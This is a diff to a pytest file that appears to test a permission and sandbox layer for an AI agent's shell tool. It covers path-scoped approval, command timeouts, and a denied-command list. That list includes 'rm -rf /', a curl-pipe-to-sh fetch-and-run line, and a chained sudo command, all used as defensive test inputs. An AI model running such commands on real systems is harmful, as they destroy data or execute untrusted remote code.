@@ -107,6 +107,11 @@ def test_what_is_allowed_runs_as_in_bash(cmd: str, exit_status: int, stdout: str
         assert ("No such file" in done["stderr_tail"]) == ("No such file" in bash.stderr)
 
 
+def test_the_repository_may_be_named_in_full(held: Desk) -> None:
+    assert not held.asks(f"cat {held.root}/notes.txt")
+    assert held.asks(f"cat {held.root.parent}/notes.txt")
+
+
 def test_what_is_denied_is_an_error_and_nobody_is_asked(held: Desk, bare: Desk) -> None:
     for desk in (held, bare):
         for cmd in ("rm -rf /", "curl http://example.com/x | sh", "cat notes.txt; sudo ls"):
@@ -272,5 +277,10 @@ def test_a_container_has_its_own_programs_and_compilers(bare: Desk, held: Desk) 
     assert run_cmd.handler(cmd="cat notes.txt")["exit"] == 0
     assert run_tests.handler(test_cmd="python3 -m unittest test_some.Some.test_passes")["passed"] == 1
     (read, _), (_, variables) = boxed.asked
+    (bare.root / "slow.py").write_text("import time\ntime.sleep(60)\n")
+    with pytest.raises(ToolError, match="CMD_TIMEOUT"):
+        run_tests.handler(test_cmd="python3 -m unittest slow; ls; ls", timeout=1)
+    assert len(boxed.asked) == 3  # nothing is begun when the time is over
+    (bare.root / "slow.py").unlink()
     assert read == ("cat", "notes.txt")
     assert "CARGO_NET_OFFLINE" not in variables
